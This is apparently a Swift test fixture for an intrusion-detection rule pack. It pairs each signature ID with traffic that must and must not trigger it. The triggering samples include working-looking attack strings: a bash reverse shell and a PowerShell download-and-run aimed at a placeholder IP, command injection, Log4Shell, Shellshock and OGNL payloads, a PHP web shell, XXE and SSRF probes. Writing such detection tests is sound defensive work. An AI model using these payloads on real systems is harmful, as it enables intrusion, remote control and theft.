// SPDX-License-Identifier: Apache-2.0
//
// For every rule of Signatures/weir.rules, what fires it and what must not.

/// The octets of buffers, by keyword.
typealias PackBuffers = [(keyword: String, text: String)]

struct PackCase: Sendable, CustomStringConvertible {
    var sid: UInt32
    var hit: PackBuffers
    var miss: PackBuffers
    var description: String { "sid \(sid)" }

    static let all: [PackCase] = [
        PackCase(
            sid: 9_000_001,
            hit: [
                ("http.user_agent", "sqlmap/1.8#stable (https://sqlmap.org)")
            ],
            miss: [
                ("http.user_agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")
            ]),
        PackCase(
            sid: 9_000_002,
            hit: [
                ("http.user_agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)")
            ],
            miss: [
                ("http.user_agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")
            ]),
        PackCase(
            sid: 9_000_003,
            hit: [
                ("http.user_agent", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")
            ],
            miss: [
                ("http.user_agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")
            ]),
        PackCase(
            sid: 9_000_004,
            hit: [
                ("http.user_agent", "gobuster/3.6")
            ],
            miss: [
                ("http.user_agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")
            ]),
        PackCase(
            sid: 9_000_005,
            hit: [
                ("http.user_agent", "Fuzz Faster U Fool v2.1.0")
            ],
            miss: [
                ("http.user_agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")
            ]),
        PackCase(
            sid: 9_000_006,
            hit: [
                ("http.user_agent", "WPScan v3.8.25 (https://wpscan.com/)")
            ],
            miss: [
                ("http.user_agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")
            ]),
        PackCase(
            sid: 9_000_007,
            hit: [
                ("http.user_agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)")
            ],
            miss: [
                ("http.user_agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")
            ]),
        PackCase(
            sid: 9_000_008,
            hit: [
                ("http.user_agent", "Mozilla/5.0 zgrab/0.x")
            ],
            miss: [
                ("http.user_agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")
            ]),
        PackCase(
            sid: 9_000_009,
            hit: [
                (
                    "http.user_agent",
                    "Mozilla/5.0 (compatible; Nmap Scripting"
                        + " Engine; https://nmap.org/book/nse.html)"
                )
            ],
            miss: [
                ("http.user_agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")
            ]),
        PackCase(
            sid: 9_000_010,
            hit: [
                ("http.user_agent", "feroxbuster/2.10.1")
            ],
            miss: [
                ("http.user_agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")
            ]),
        PackCase(
            sid: 9_000_011,
            hit: [
                ("http.user_agent", "Mozilla/5.0 (Hydra)")
            ],
            miss: [
                ("http.user_agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")
            ]),
        PackCase(
            sid: 9_000_012,
            hit: [
                ("http.user_agent", "DirBuster-1.0-RC1 (http://www.owasp.org)")
            ],
            miss: [
                ("http.user_agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0")
            ]),
        PackCase(
            sid: 9_000_013,
            hit: [
                ("http.uri.raw", "/cgi-bin/../../../../etc/passwd")
            ],
            miss: [
                ("http.uri.raw", "/docs/etc/passwd.html")
            ]),
        PackCase(
            sid: 9_000_014,
            hit: [
                ("http.request_line", "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1")
            ],
            miss: [
                ("http.request_line", "GET /?x=jndi:ldap HTTP/1.1")
            ]),
        PackCase(
            sid: 9_000_015,
            hit: [
                ("http.header", "User-Agent: ${jndi:ldap://203.0.113.9/a}\r\n")
            ],
            miss: [
                ("http.header", "User-Agent: curl/8.5.0\r\n")
            ]),
        PackCase(
            sid: 9_000_016,
            hit: [
                ("http.header", "User-Agent: () { :;}; /bin/id\r\n")
            ],
            miss: [
                ("http.header", "X-Code: function() { return }\r\n")
            ]),
        PackCase(
            sid: 9_000_017,
            hit: [
                (
                    "http.request_body",
                    "class.module.classLoader.resources.con"
                        + "text.parent.pipeline.first.suffix=.jsp"
                )
            ],
            miss: [
                ("http.request_body", "class=module&loader=1")
            ]),
        PackCase(
            sid: 9_000_018,
            hit: [
                ("http.uri", "/${(#a=@java.lang.Runtime@getRuntime().exec(\"id\"))}/")
            ],
            miss: [
                ("http.uri", "/display/DOC/getRuntime")
            ]),
        PackCase(
            sid: 9_000_019,
            hit: [
                (
                    "http.content_type",
                    "%{(#_='multipart/form-data').(#dm=@og"
                        + "nl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"
                )
            ],
            miss: [
                ("http.content_type", "multipart/form-data; boundary=ognl")
            ]),
        PackCase(
            sid: 9_000_020,
            hit: [
                ("http.uri.raw", "/cgi-bin/.%2e/.%2e/bin/sh")
            ],
            miss: [
                ("http.uri.raw", "/cgi-bin/../bin/sh")
            ]),
        PackCase(
            sid: 9_000_021,
            hit: [
                ("http.uri", "/mgmt/tm/util/bash"),
                ("http.request_body", "{\"command\":\"run\",\"utilCmdArgs\":\"-c id\"}"),
            ],
            miss: [
                ("http.uri", "/mgmt/tm/util/bash"),
                ("http.request_body", "{}"),
            ]),
        PackCase(
            sid: 9_000_022,
            hit: [
                ("http.uri", "/autodiscover/autodiscover.json?a@b.c/mapi/nspi/")
            ],
            miss: [
                ("http.uri", "/autodiscover/autodiscover.xml")
            ]),
        PackCase(
            sid: 9_000_023,
            hit: [
                ("http.uri", "/moveitisapi/moveitisapi.dll?action=m2")
            ],
            miss: [
                ("http.uri", "/moveitisapi/help")
            ]),
        PackCase(
            sid: 9_000_024,
            hit: [
                ("http.uri", "/oauth/idp/.well-known/openid-configuration"),
                ("http.host.raw", String(repeating: "a", count: 2500)),
            ],
            miss: [
                ("http.uri", "/oauth/idp/.well-known/openid-configuration"),
                ("http.host.raw", "gw.example"),
            ]),
        PackCase(
            sid: 9_000_025,
            hit: [
                ("http.uri.raw", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1")
            ],
            miss: [
                ("http.uri.raw", "/index.php?%20d=allow_url_include")
            ]),
        PackCase(
            sid: 9_000_026,
            hit: [
                ("http.uri", "/item.php?id=-1 UNION ALL SELECT 1,2,3")
            ],
            miss: [
                ("http.uri", "/union/square/select-menu")
            ]),
        PackCase(
            sid: 9_000_027,
            hit: [
                ("http.uri", "/a?id=1' AND SLEEP(5)-- ")
            ],
            miss: [
                ("http.uri", "/a?id=sleeping")
            ]),
        PackCase(
            sid: 9_000_028,
            hit: [
                ("http.request_body", "ip=127.0.0.1;wget http://203.0.113.9/x.sh")
            ],
            miss: [
                ("http.request_body", "note=use wget or curl")
            ]),
        PackCase(
            sid: 9_000_029,
            hit: [
                (
                    "http.request_body",
                    "Content-Disposition: form-data; name=\"f\"; fil"
                        + "ename=\"a.php\"\r\n\r\n<?php system($_GET[\"c\"]); ?>"
                )
            ],
            miss: [
                ("http.request_body", "filename=\"a.png\"\r\n\r\nPNG")
            ]),
        PackCase(
            sid: 9_000_030,
            hit: [
                ("http.uri", "/uploads/x.php?cmd=whoami")
            ],
            miss: [
                ("http.uri", "/shop.php?cmd=order")
            ]),
        PackCase(
            sid: 9_000_031,
            hit: [
                ("http.response_body", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n")
            ],
            miss: [
                ("http.response_body", "<p>uid and gid are numbers</p>")
            ]),
        PackCase(
            sid: 9_000_032,
            hit: [
                ("http.method", "POST"),
                ("http.request_body", "p=@eval(base64_decode($_POST[z0]));&z0=QGluaQ=="),
            ],
            miss: [
                ("http.method", "POST"),
                ("http.request_body", "q=base64_decode"),
            ]),
        PackCase(
            sid: 9_000_033,
            hit: [
                ("http.request_body", "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/hostname\">]>")
            ],
            miss: [
                ("http.request_body", "<!DOCTYPE html>")
            ]),
        PackCase(
            sid: 9_000_034,
            hit: [
                ("http.uri", "/fetch?url=http://169.254.169.254/latest/meta-data/")
            ],
            miss: [
                ("http.uri", "/fetch?url=http://198.51.100.7/")
            ]),
        PackCase(
            sid: 9_000_035,
            hit: [
                ("http.uri", "/app/.git/config")
            ],
            miss: [
                ("http.uri", "/git/config.html")
            ]),
        PackCase(
            sid: 9_000_036,
            hit: [
                ("http.uri", "/laravel/.env")
            ],
            miss: [
                ("http.uri", "/.environment")
            ]),
        PackCase(
            sid: 9_000_037,
            hit: [
                ("http.content_type", "image/jpeg"),
                (
                    "file.data",
                    "MZ................................................"
                        + "............This program cannot be run in DOS mode"
                ),
            ],
            miss: [
                ("http.content_type", "image/jpeg"),
                ("file.data", "JFIF"),
            ]),
        PackCase(
            sid: 9_000_038,
            hit: [
                (
                    "http.user_agent",
                    "Mozilla/5.0 (Windows NT; Windows NT 10."
                        + "0; en-US) WindowsPowerShell/5.1.19041.1"
                )
            ],
            miss: [
                ("http.user_agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
            ]),
        PackCase(
            sid: 9_000_039,
            hit: [
                ("file.data", "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')")
            ],
            miss: [
                ("file.data", "documentation of the method DownloadString")
            ]),
        PackCase(
            sid: 9_000_040,
            hit: [
                ("http.user_agent", "CertUtil URL Agent")
            ],
            miss: [
                ("http.user_agent", "Microsoft-CryptoAPI/10.0")
            ]),
        PackCase(
            sid: 9_000_041,
            hit: [
                ("http.user_agent", "Microsoft BITS/7.8"),
                ("http.host", "203.0.113.9"),
            ],
            miss: [
                ("http.user_agent", "Microsoft BITS/7.8"),
                ("http.host", "download.example"),
            ]),
        PackCase(
            sid: 9_000_042,
            hit: [
                ("http.method", "POST"),
                ("http.uri", "/submit.php?id=1839402211"),
            ],
            miss: [
                ("http.method", "POST"),
                ("http.uri", "/submit.php?id=order"),
            ]),
        PackCase(
            sid: 9_000_043,
            hit: [
                ("tls.cert_serial", "08:BB:00:EE")
            ],
            miss: [
                ("tls.cert_serial", "08:BB:00:EF")
            ]),
        PackCase(
            sid: 9_000_044,
            hit: [
                ("tls.cert_subject", "C=US, O=MetasploitSelfSignedCA, CN=MetasploitSelfSignedCA")
            ],
            miss: [
                ("tls.cert_subject", "C=US, O=Example, CN=example.com")
            ]),
        PackCase(
            sid: 9_000_045,
            hit: [
                ("tls.cert_subject", "CN=multiplayer")
            ],
            miss: [
                ("tls.cert_subject", "CN=multiplayer.example")
            ]),
        PackCase(
            sid: 9_000_046,
            hit: [
                ("http.uri", "/login/process.php"),
                ("http.cookie", "session=AAAAAAAAAAAAAAAAAAAAAAAAAAA="),
            ],
            miss: [
                ("http.uri", "/login/process.php"),
                ("http.cookie", "lang=en"),
            ]),
        PackCase(
            sid: 9_000_047,
            hit: [
                (
                    "payload",
                    "Microsoft Windows [Version 10.0.19045]\r\n(c) "
                        + "Microsoft Corporation. All rights reserved.\r\n"
                )
            ],
            miss: [
                ("payload", "Microsoft Windows is a product")
            ]),
        PackCase(
            sid: 9_000_048,
            hit: [
                ("payload", "bash: no job control in this shell\nwww-data@web:/$ ")
            ],
            miss: [
                ("payload", "bash-5.1$ ls")
            ]),
        PackCase(
            sid: 9_000_049,
            hit: [
                ("payload", "PS C:\\Users\\a> ")
            ],
            miss: [
                ("payload", "PS C: drive")
            ]),
        PackCase(
            sid: 9_000_050,
            hit: [
                ("file.data", "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
            ],
            miss: [
                ("file.data", "see /dev/tcp/ in the manual")
            ]),
        PackCase(
            sid: 9_000_051,
            hit: [
                (
                    "dns.query",
                    "a1b2c3d4e5f6g7h8i9j0a1b2c3d4e5f6g7h8i9j0a1b2c3d4e5f6g7h8i9j0.k1l2m3"
                        + "n4o5p6q7r8s9t0k1l2m3n4o5p6q7r8s9t0k1l2m3n4o5p6q7r8s9t0.t.example.com"
                )
            ],
            miss: [
                ("dns.query", "www.example.com")
            ]),
        PackCase(
            sid: 9_000_052,
            hit: [
                ("dns.query", "vaaaakat2sy.t1.example.com")
            ],
            miss: [
                ("dns.query", "vaaaa.example.com")
            ]),
        PackCase(
            sid: 9_000_053,
            hit: [
                ("dns.query", "dnscat.9f3a01feab7700.example")
            ],
            miss: [
                ("dns.query", "dns.catalogue.example")
            ]),
        PackCase(
            sid: 9_000_054,
            hit: [
                ("dns.query", "pool.minexmr.com")
            ],
            miss: [
                ("dns.query", "minexmr.com.example.net")
            ]),
        PackCase(
            sid: 9_000_055,
            hit: [
                ("dns.query", "pool.supportxmr.com")
            ],
            miss: [
                ("dns.query", "supportxmr.com.example.net")
            ]),
        PackCase(
            sid: 9_000_056,
            hit: [
                ("dns.query", "pool.nanopool.org")
            ],
            miss: [
                ("dns.query", "nanopool.org.example.net")
            ]),
        PackCase(
            sid: 9_000_057,
            hit: [
                ("dns.query", "pool.hashvault.pro")
            ],
            miss: [
                ("dns.query", "hashvault.pro.example.net")
            ]),
        PackCase(
            sid: 9_000_058,
            hit: [
                ("dns.query", "pool.moneroocean.stream")
            ],
            miss: [
                ("dns.query", "moneroocean.stream.example.net")
            ]),
        PackCase(
            sid: 9_000_059,
            hit: [
                (
                    "payload",
                    "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":"
                        + "{\"login\":\"4A\",\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\"}}\n"
                )
            ],
            miss: [
                ("payload", "{\"method\":\"login\",\"params\":{}}")
            ]),
        PackCase(
            sid: 9_000_060,
            hit: [
                ("payload", "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\n")
            ],
            miss: [
                ("payload", "{\"method\":\"mining\"}")
            ]),
        PackCase(
            sid: 9_000_061,
            hit: [
                ("dns.query", "expyuzz4wqqyqhjn.onion")
            ],
            miss: [
                ("dns.query", "onion.example")
            ]),
        PackCase(
            sid: 9_000_062,
            hit: [
                ("dns.query", "api.ipify.org")
            ],
            miss: [
                ("dns.query", "ipify.example.org")
            ]),
        PackCase(
            sid: 9_000_063,
            hit: [
                ("tls.sni", "a1b2.ngrok.io")
            ],
            miss: [
                ("tls.sni", "ngrok.io.example")
            ]),
        PackCase(
            sid: 9_000_064,
            hit: [
                ("tls.sni", "relay-3185.net.anydesk.com")
            ],
            miss: [
                ("tls.sni", "anydesk.example")
            ]),
        PackCase(
            sid: 9_000_065,
            hit: [
                ("tls.sni", "api.telegram.org")
            ],
            miss: [
                ("tls.sni", "web.telegram.org")
            ]),
        PackCase(
            sid: 9_000_066,
            hit: [
                ("payload", "PASS s3cret\r\n")
            ],
            miss: [
                ("payload", "PASV\r\n")
            ]),
        PackCase(
            sid: 9_000_067,
            hit: [
                ("http.header", "Authorization: Basic YWRtaW46YWRtaW4=\r\n")
            ],
            miss: [
                ("http.header", "Authorization: Bearer x\r\n")
            ]),
        PackCase(
            sid: 9_000_068,
            hit: [
                ("http.header", "Authorization: Basic YWRtaW46YWRtaW4=\r\n")
            ],
            miss: [
                ("http.header", "Authorization: Basic dXNlcjpwYXNz\r\n")
            ]),
        PackCase(
            sid: 9_000_069,
            hit: [
                ("payload", "-----BEGIN RSA PRIVATE KEY-----\nMIIE")
            ],
            miss: [
                ("payload", "-----BEGIN CERTIFICATE-----")
            ]),
        PackCase(
            sid: 9_000_070,
            hit: [
                ("snmp.community", "public")
            ],
            miss: [
                ("snmp.community", "publicly")
            ]),
        PackCase(
            sid: 9_000_071,
            hit: [
                ("smb.named_pipe", "PSEXESVC")
            ],
            miss: [
                ("smb.named_pipe", "srvsvc")
            ]),
        PackCase(
            sid: 9_000_072,
            hit: [
                ("smb.share", "\\\\FS01\\ADMIN$")
            ],
            miss: [
                ("smb.share", "\\\\FS01\\PUBLIC")
            ]),
        PackCase(
            sid: 9_000_073,
            hit: [
                ("ssh.software", "libssh_0.9.6")
            ],
            miss: [
                ("ssh.software", "OpenSSH_9.6")
            ]),
        PackCase(
            sid: 9_000_074,
            hit: [
                ("payload", "/bin/busybox MIRAI\r\n")
            ],
            miss: [
                ("payload", "/bin/busybox ls\r\n")
            ]),
        PackCase(
            sid: 9_000_075,
            hit: [
                ("file.name", "invoice.pdf.exe")
            ],
            miss: [
                ("file.name", "invoice.pdf")
            ]),
    ]
}
